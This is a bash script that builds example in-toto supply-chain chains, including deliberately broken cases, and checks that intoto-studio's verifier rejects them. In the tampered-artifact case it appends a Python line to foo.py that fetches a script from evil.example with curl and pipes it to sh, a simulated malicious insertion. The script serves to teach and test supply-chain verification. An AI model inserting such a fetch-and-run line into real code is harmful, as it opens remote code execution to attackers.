#!/usr/bin/env bash
# Regenerate every example chain under examples/ with intoto-studio's own toolbox.
#
#   bash examples/generate.sh               # reuse the keys in examples/keys/ (default)
#   bash examples/generate.sh --fresh-keys  # throw the keys away and make new ones
#
# What it does, for each example folder listed in EXAMPLES below:
#   - deletes everything in the folder except its hand-written README.md,
#   - runs the chain's steps in a scratch area with `intoto-studio run` and
#     `intoto-studio record start|stop`, signed with the TEST-ONLY keys of examples/keys/,
#   - writes root.layout (and, for sublayout-failure, the sublayout) and signs it with
#     `intoto-studio sign`,
#   - copies the owner's public key as owner.pub and the functionaries' as <name>.pub,
#   - finally verifies every example with `intoto-studio verify` and checks the verdict
#     against the `Verdict:` line of its README.md.
#
# Keys: a key is generated (`intoto-studio keygen`) only when examples/keys/TEST-ONLY-<name>.pem
# is missing, so a re-run changes only what must change. With the same keys, ed25519 links and
# layouts come out byte-identical (ed25519 and, here, ECDSA signatures are deterministic; the
# tarballs are built from files with fixed modification times by the same user); only the
# RSA-PSS signatures of frank's `scan` links are randomized and change on every run. With
# --fresh-keys all keyids change; the script then also updates the link file names
# (`<step>.<keyid prefix>.link`) quoted in the READMEs.
#
# python3 is used only to assemble layout JSON (from the key dicts printed by
# `intoto-studio key layout`); keys, signatures and links all come from intoto-studio.
# The step commands (run here, not at verification) use sh, cp, tar, gzip and awk; the
# inspection commands that verification runs use only sh, tar and grep.
set -euo pipefail

here="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
root="$(dirname "$here")"
keys="$here/keys"

EXAMPLES=(
  demo
  container
  demo-tampered-artifact
  demo-missing-link
  demo-unauthorized-functionary
  demo-expired
  demo-threshold-not-met
  container-failing-inspection
  sublayout-failure
)

FUTURE="2099-12-31T23:59:59Z"
PAST="2021-01-01T00:00:00Z"

fresh=0
for arg in "$@"; do
  case "$arg" in
    --fresh-keys) fresh=1 ;;
    -h|--help) awk 'NR > 1 && /^#/ { sub(/^# ?/, ""); print; next } NR > 1 { exit }' "$0"; exit 0 ;;
    *) echo "generate.sh: unknown argument: $arg" >&2; exit 2 ;;
  esac
done

(cd "$root" && cargo build --release --quiet)
BIN="$root/target/release/intoto-studio"

scratch="$(mktemp -d "${TMPDIR:-/tmp}/intoto-examples.XXXXXX")"
trap 'rm -rf "$scratch"' EXIT
mkdir -p "$scratch/keydicts"
export KEYDICTS="$scratch/keydicts"

# Fixed modification time for everything that goes into a tarball (reproducible archives).
STAMP=202001010000

say() { printf '==> %s\n' "$*"; }

# ---------------------------------------------------------------------------------------
# Keys
# ---------------------------------------------------------------------------------------

mkdir -p "$keys"
if [ "$fresh" = 1 ]; then
  rm -f "$keys"/TEST-ONLY-*.pem "$keys"/TEST-ONLY-*.pem.pub
fi

# ensure_key NAME TYPE: examples/keys/TEST-ONLY-NAME.pem (+ .pub), made once.
ensure_key() {
  local name=$1 type=$2 pem="$keys/TEST-ONLY-$1.pem"
  if [ ! -f "$pem" ] || [ ! -f "$pem.pub" ]; then
    say "keygen $name ($type)"
    "$BIN" keygen --type "$type" --force "$pem" >/dev/null
  fi
  "$BIN" key layout "$pem.pub" > "$KEYDICTS/$name.json"
}

ensure_key alice ed25519    # layout owner
ensure_key bob ed25519      # clone, update-version, checkout
ensure_key carl ed25519     # package (and the delegate who signs the package sublayout)
ensure_key dana ed25519     # second packager (threshold lesson), tester in the sublayout
ensure_key mallory ed25519  # not in any layout
ensure_key erin ecdsa       # container build (ECDSA P-256)
ensure_key frank rsa        # container scan (RSA-PSS, 3072 bits)

priv() { printf '%s/TEST-ONLY-%s.pem' "$keys" "$1"; }
kid() { "$BIN" key id "$keys/TEST-ONLY-$1.pem.pub"; }
kid8() { kid "$1" | cut -c1-8; }

# pubkeys DIR NAME...: copy public keys into an example (alice becomes owner.pub).
pubkeys() {
  local dir=$1 name
  shift
  for name in "$@"; do
    if [ "$name" = alice ]; then
      cp "$keys/TEST-ONLY-alice.pem.pub" "$dir/owner.pub"
    else
      cp "$keys/TEST-ONLY-$name.pem.pub" "$dir/$name.pub"
    fi
  done
}

# ---------------------------------------------------------------------------------------
# Layouts (python3 only assembles JSON; intoto-studio signs)
# ---------------------------------------------------------------------------------------

# layout KIND OUT EXPIRES: write the unsigned layout KIND to OUT.
layout() {
  python3 - "$@" <<'PY'
import json, os, sys

kind, out, expires = sys.argv[1:4]


def key(name):
    with open(os.path.join(os.environ["KEYDICTS"], name + ".json")) as f:
        return json.load(f)


def rules(*lines):
    # Rules are written as in the in-toto docs, e.g. "MATCH foo WITH PRODUCTS FROM bar".
    return [line.split() for line in lines]


def step(name, functionaries, command, materials, products, threshold=1):
    return {
        "_type": "step",
        "name": name,
        "threshold": threshold,
        "pubkeys": [key(n)["keyid"] for n in functionaries],
        # A command is a string of words, or a list when a word has spaces.
        "expected_command": command.split() if isinstance(command, str) else command,
        "expected_materials": rules(*materials),
        "expected_products": rules(*products),
    }


def inspection(name, command, materials, products):
    return {
        "_type": "inspection",
        "name": name,
        "run": command.split(),
        "expected_materials": rules(*materials),
        "expected_products": rules(*products),
    }


def layout(readme, functionaries, steps, inspect):
    return {
        "_type": "layout",
        "expires": expires,
        "readme": readme,
        "keys": {key(n)["keyid"]: key(n) for n in functionaries},
        "steps": steps,
        "inspect": inspect,
    }


CLONE = step(
    "clone", ["bob"], "cp -R ../upstream/demo-project .",
    ["DISALLOW *"],  # clone starts from nothing
    ["CREATE demo-project/foo.py", "DISALLOW *"],
)
UPDATE_VERSION = step(
    "update-version", ["bob"], "",
    ["MATCH demo-project/* WITH PRODUCTS FROM clone", "DISALLOW *"],
    ["MODIFY demo-project/foo.py", "DISALLOW *"],
)
TAR = "tar czf demo-project.tar.gz demo-project"


def package(functionaries=("carl",), threshold=1):
    return step(
        "package", list(functionaries), TAR,
        ["MATCH demo-project/* WITH PRODUCTS FROM update-version", "DISALLOW *"],
        ["CREATE demo-project.tar.gz", "DISALLOW *"],
        threshold=threshold,
    )


UNTAR = inspection(
    "untar", "tar xzf demo-project.tar.gz",
    [
        "MATCH demo-project.tar.gz WITH PRODUCTS FROM package",
        # Only there when the inspection ran before in the same folder.
        "MATCH demo-project/* WITH PRODUCTS FROM update-version",
        "DISALLOW *",
    ],
    [
        "MATCH demo-project/foo.py WITH PRODUCTS FROM update-version",
        "MATCH demo-project.tar.gz WITH PRODUCTS FROM package",
        "DISALLOW *",
    ],
)

if kind == "demo":
    doc = layout(
        "in-toto demo: bob clones and bumps the version, carl packages; untar inspection",
        ["bob", "carl"], [CLONE, UPDATE_VERSION, package()], [UNTAR],
    )
elif kind == "demo-threshold":
    doc = layout(
        "in-toto demo, but package needs links from 2 of carl and dana",
        ["bob", "carl", "dana"],
        [CLONE, UPDATE_VERSION, package(("carl", "dana"), threshold=2)], [UNTAR],
    )
elif kind == "container":
    image_and_report = [
        "MATCH image.tar WITH PRODUCTS FROM build",
        "MATCH scan-report.json WITH PRODUCTS FROM scan",
        "ALLOW check-report.sh",
        "DISALLOW *",
    ]
    doc = layout(
        "container: checkout, build the image, scan it; gate on the scan report",
        ["bob", "erin", "frank"],
        [
            step(
                "checkout", ["bob"], "cp -R ../upstream/Dockerfile ../upstream/app .",
                ["DISALLOW *"],  # checkout starts from nothing
                ["CREATE Dockerfile", "CREATE app/*", "DISALLOW *"],
            ),
            step(
                "build", ["erin"], "tar cf image.tar Dockerfile app",
                ["MATCH * WITH PRODUCTS FROM checkout", "DISALLOW *"],
                ["CREATE image.tar", "DISALLOW *"],
            ),
            step(
                "scan", ["frank"], "sh ../tools/scan.sh image.tar scan-report.json",
                ["MATCH image.tar WITH PRODUCTS FROM build", "DISALLOW *"],
                ["CREATE scan-report.json", "DISALLOW *"],
            ),
        ],
        [
            inspection(
                "check-report", "sh check-report.sh scan-report.json",
                image_and_report, image_and_report,
            )
        ],
    )
elif kind == "sublayout-root":
    doc = layout(
        "in-toto demo; carl's team runs 'package' under its own sublayout (test, then tar)",
        ["bob", "carl"], [CLONE, UPDATE_VERSION, package()], [],
    )
elif kind == "sublayout-package":
    doc = layout(
        "sublayout for step 'package', signed by carl: dana tests, carl tars",
        ["carl", "dana"],
        [
            step(
                "test", ["dana"],
                ["sh", "-c", "grep -q VERSION demo-project/foo.py && echo PASS > test-report.txt"],
                ["ALLOW demo-project/*", "DISALLOW *"],
                [
                    "MATCH demo-project/* WITH MATERIALS FROM test",
                    "CREATE test-report.txt",
                    "DISALLOW *",
                ],
            ),
            step(
                "tar", ["carl"], TAR,
                [
                    "MATCH demo-project/* WITH PRODUCTS FROM test",
                    "MATCH test-report.txt WITH PRODUCTS FROM test",
                    "DISALLOW *",
                ],
                ["CREATE demo-project.tar.gz", "DISALLOW *"],
            ),
        ],
        [],
    )
else:
    sys.exit("unknown layout kind: " + kind)

with open(out, "w") as f:
    json.dump({"signatures": [], "signed": doc}, f, indent=1, sort_keys=True)
    f.write("\n")
PY
}

# signed_layout KIND OUT EXPIRES SIGNER
signed_layout() {
  layout "$1" "$2" "$3"
  "$BIN" sign -f "$2" -k "$(priv "$4")"
}

# ---------------------------------------------------------------------------------------
# Chains
# ---------------------------------------------------------------------------------------

# new_example NAME: empty the folder except README.md; prints its path.
new_example() {
  local dir="$here/$1"
  mkdir -p "$dir"
  find "$dir" -mindepth 1 -maxdepth 1 ! -name README.md -exec rm -rf {} +
  printf '%s' "$dir"
}

# demo_chain DEST PACKAGER [tamper]: clone and update-version by bob, package by PACKAGER;
# with "tamper", foo.py is changed after update-version and before package.
demo_chain() {
  local dest=$1 packager=$2 tamper=${3:-}
  local s
  s="$(mktemp -d "$scratch/demo.XXXXXX")"
  mkdir -p "$s/upstream/demo-project" "$s/work" "$dest/links" "$dest/workdir"
  printf 'VERSION = "foo-v0"\n' > "$s/upstream/demo-project/foo.py"
  (
    cd "$s/work"
    # bob clones the upstream project.
    "$BIN" run -n clone --signing-key "$(priv bob)" -p demo-project -d "$dest/links" \
      -- cp -R ../upstream/demo-project .
    # bob bumps the version by hand, recorded with record start/stop.
    "$BIN" record start -n update-version --signing-key "$(priv bob)" -m demo-project
    printf 'VERSION = "foo-v1"\n' > demo-project/foo.py
    "$BIN" record stop -n update-version --signing-key "$(priv bob)" -p demo-project \
      -d "$dest/links"
    if [ "$tamper" = tamper ]; then
      # Someone on the packaging machine slips a line in after bob's reviewed change.
      printf 'import os; os.system("curl -s https://evil.example/x | sh")\n' \
        >> demo-project/foo.py
    fi
    touch -t "$STAMP" demo-project/foo.py demo-project
    "$BIN" run -n package --signing-key "$(priv "$packager")" -m demo-project \
      -p demo-project.tar.gz -d "$dest/links" -- tar czf demo-project.tar.gz demo-project
    cp demo-project.tar.gz "$dest/workdir/"
  )
}

# container_chain DEST DEPS: checkout (bob), build (erin, ECDSA), scan (frank, RSA); DEPS
# is the app's package list, which the toy scanner looks up in its vulnerability database.
container_chain() {
  local dest=$1 deps=$2
  local s
  s="$(mktemp -d "$scratch/container.XXXXXX")"
  mkdir -p "$s/upstream/app" "$s/tools" "$s/work" "$dest/links" "$dest/workdir"
  printf 'FROM scratch\nCOPY app/ /app/\nENTRYPOINT ["/app/hello.sh"]\n' > "$s/upstream/Dockerfile"
  printf '#!/bin/sh\necho "hello from the container"\n' > "$s/upstream/app/hello.sh"
  printf '%s\n' "$deps" > "$s/upstream/app/deps.txt"
  # A toy vulnerability database and scanner (the IDs are made up).
  cat > "$s/tools/vulndb.txt" <<'DB'
libdemo 1.9.0 CRITICAL EXAMPLE-2024-0001
libdemo 2.4.0 LOW EXAMPLE-2024-0107
busybox 1.36.1 MEDIUM EXAMPLE-2023-0042
DB
  cat > "$s/tools/scan.sh" <<'SCAN'
#!/bin/sh
# toy scanner: looks the image's app/deps.txt up in vulndb.txt, writes a JSON report
image=$1 report=$2
tar xOf "$image" app/deps.txt | awk -v image="$image" -v db="$(dirname "$0")/vulndb.txt" '
BEGIN { while ((getline line < db) > 0) { split(line, f, " "); sev[f[1] " " f[2]] = f[3]; id[f[1] " " f[2]] = f[4] } }
($1 " " $2) in sev {
  k = $1 " " $2
  out = out (n++ ? ",\n" : "") sprintf("    {\"id\": \"%s\", \"package\": \"%s\", \"version\": \"%s\", \"severity\": \"%s\"}", id[k], $1, $2, sev[k])
}
END { printf "{\n  \"image\": \"%s\",\n  \"findings\": [\n%s\n  ]\n}\n", image, out }' > "$report"
SCAN
  cat > "$dest/workdir/check-report.sh" <<'CHECK'
#!/bin/sh
# Inspection gate: fail when the scan report has a CRITICAL finding.
report=${1:?usage: sh check-report.sh REPORT}
if grep -q '"severity": "CRITICAL"' "$report"; then
  echo "check-report: CRITICAL finding(s) in $report:" >&2
  grep '"severity": "CRITICAL"' "$report" >&2
  exit 1
fi
echo "check-report: no CRITICAL findings in $report"
CHECK
  (
    cd "$s/work"
    "$BIN" run -n checkout --signing-key "$(priv bob)" -p Dockerfile app -d "$dest/links" \
      -- cp -R ../upstream/Dockerfile ../upstream/app .
    touch -t "$STAMP" Dockerfile app app/*
    "$BIN" run -n build --signing-key "$(priv erin)" -m Dockerfile app -p image.tar \
      -d "$dest/links" -- tar cf image.tar Dockerfile app
    "$BIN" run -n scan --signing-key "$(priv frank)" -m image.tar -p scan-report.json \
      -d "$dest/links" -- sh ../tools/scan.sh image.tar scan-report.json
    cp image.tar scan-report.json "$dest/workdir/"
  )
}

# ---------------------------------------------------------------------------------------
# The examples
# ---------------------------------------------------------------------------------------

say demo
d="$(new_example demo)"
demo_chain "$d" carl
signed_layout demo "$d/root.layout" "$FUTURE" alice
pubkeys "$d" alice bob carl

say container
d="$(new_example container)"
container_chain "$d" "$(printf 'busybox 1.36.1\nlibdemo 2.4.0')"
signed_layout container "$d/root.layout" "$FUTURE" alice
pubkeys "$d" alice bob erin frank

say demo-tampered-artifact
d="$(new_example demo-tampered-artifact)"
demo_chain "$d" carl tamper
signed_layout demo "$d/root.layout" "$FUTURE" alice
pubkeys "$d" alice bob carl

say demo-missing-link
d="$(new_example demo-missing-link)"
demo_chain "$d" carl
rm "$d/links/update-version.$(kid8 bob).link"
signed_layout demo "$d/root.layout" "$FUTURE" alice
pubkeys "$d" alice bob carl

say demo-unauthorized-functionary
d="$(new_example demo-unauthorized-functionary)"
demo_chain "$d" mallory
# mallory's link, saved under the file name the verifier looks for (carl's).
mv "$d/links/package.$(kid8 mallory).link" "$d/links/package.$(kid8 carl).link"
signed_layout demo "$d/root.layout" "$FUTURE" alice
pubkeys "$d" alice bob carl mallory

say demo-expired
d="$(new_example demo-expired)"
demo_chain "$d" carl
signed_layout demo "$d/root.layout" "$PAST" alice
pubkeys "$d" alice bob carl

say demo-threshold-not-met
d="$(new_example demo-threshold-not-met)"
demo_chain "$d" carl
signed_layout demo-threshold "$d/root.layout" "$FUTURE" alice
pubkeys "$d" alice bob carl dana

say container-failing-inspection
d="$(new_example container-failing-inspection)"
container_chain "$d" "$(printf 'busybox 1.36.1\nlibdemo 1.9.0')"
signed_layout container "$d/root.layout" "$FUTURE" alice
pubkeys "$d" alice bob erin frank

say sublayout-failure
d="$(new_example sublayout-failure)"
(
  s="$(mktemp -d "$scratch/sublayout.XXXXXX")"
  sub="package.$(kid8 carl)"
  mkdir -p "$s/upstream/demo-project" "$s/work" "$d/links/$sub"
  printf 'VERSION = "foo-v0"\n' > "$s/upstream/demo-project/foo.py"
  cd "$s/work"
  "$BIN" run -n clone --signing-key "$(priv bob)" -p demo-project -d "$d/links" \
    -- cp -R ../upstream/demo-project .
  "$BIN" record start -n update-version --signing-key "$(priv bob)" -m demo-project
  printf 'VERSION = "foo-v1"\n' > demo-project/foo.py
  "$BIN" record stop -n update-version --signing-key "$(priv bob)" -p demo-project -d "$d/links"
  # Inside carl's team: dana tests, ...
  "$BIN" run -n test --signing-key "$(priv dana)" -m demo-project \
    -p demo-project test-report.txt -d "$d/links/$sub" \
    -- sh -c 'grep -q VERSION demo-project/foo.py && echo PASS > test-report.txt'
  # ... a debugging session leaves a log with a token in the project, ...
  printf 'debug: upload token=TEST-ONLY-0000\n' > demo-project/debug.log
  touch -t "$STAMP" demo-project/foo.py demo-project/debug.log demo-project
  # ... and carl packages it along with the project.
  "$BIN" run -n tar --signing-key "$(priv carl)" -m demo-project test-report.txt \
    -p demo-project.tar.gz -d "$d/links/$sub" -- tar czf demo-project.tar.gz demo-project
  # carl, the delegate, signs the sublayout; it goes where the step's link would be.
  layout sublayout-package "$d/links/$sub.link" "$FUTURE"
  "$BIN" sign -f "$d/links/$sub.link" -k "$(priv carl)"
)
signed_layout sublayout-root "$d/root.layout" "$FUTURE" alice
pubkeys "$d" alice bob carl dana

# The READMEs quote link file names (`<step>.<keyid prefix>.link`): keep the prefixes current
# (they change only with --fresh-keys).
for name in "${EXAMPLES[@]}"; do
  readme="$here/$name/README.md"
  [ -f "$readme" ] || continue
  sed -e "s/\(clone\)\.[0-9a-f]\{8\}/\1.$(kid8 bob)/g" \
    -e "s/\(update-version\)\.[0-9a-f]\{8\}/\1.$(kid8 bob)/g" \
    -e "s/\(checkout\)\.[0-9a-f]\{8\}/\1.$(kid8 bob)/g" \
    -e "s/\(package\)\.[0-9a-f]\{8\}/\1.$(kid8 carl)/g" \
    -e "s/\(tar\)\.[0-9a-f]\{8\}/\1.$(kid8 carl)/g" \
    -e "s/\(test\)\.[0-9a-f]\{8\}/\1.$(kid8 dana)/g" \
    -e "s/\(build\)\.[0-9a-f]\{8\}/\1.$(kid8 erin)/g" \
    -e "s/\(scan\)\.[0-9a-f]\{8\}/\1.$(kid8 frank)/g" \
    "$readme" > "$readme.tmp"
  if cmp -s "$readme" "$readme.tmp"; then rm "$readme.tmp"; else mv "$readme.tmp" "$readme"; fi
done

# ---------------------------------------------------------------------------------------
# Check every verdict against its README (the full check, also against the reference
# implementation, is `cargo test --release --test examples`).
# ---------------------------------------------------------------------------------------

status=0
for name in "${EXAMPLES[@]}"; do
  dir="$here/$name"
  want=""
  if [ -f "$dir/README.md" ]; then
    want="$(sed -n -e 's/^Verdict: PASSED$/PASSED/p' \
      -e 's/^Verdict: \(FAILED ([A-Za-z]*)\) at .*/\1/p' "$dir/README.md" | head -n1)"
  fi
  copy="$(mktemp -d "$scratch/check.XXXXXX")"
  cp -R "$dir/." "$copy/"
  if [ -d "$copy/workdir" ]; then
    got="$(cd "$copy/workdir" && "$BIN" verify --layout ../root.layout \
      --verification-keys ../owner*.pub --link-dir ../links 2>&1 | head -n1 || true)"
  else
    got="$(cd "$copy" && "$BIN" verify --layout root.layout \
      --verification-keys owner*.pub --link-dir links 2>&1 | head -n1 || true)"
  fi
  got="${got#Verification }"
  if [ -z "$want" ]; then
    printf '  %-32s %s  (README.md has no Verdict line)\n' "$name" "$got"
    status=1
  elif [ "$got" = "$want" ]; then
    printf '  %-32s %s\n' "$name" "$got"
  else
    printf '  %-32s %s, but README.md says %s\n' "$name" "$got" "$want"
    status=1
  fi
done
exit "$status"
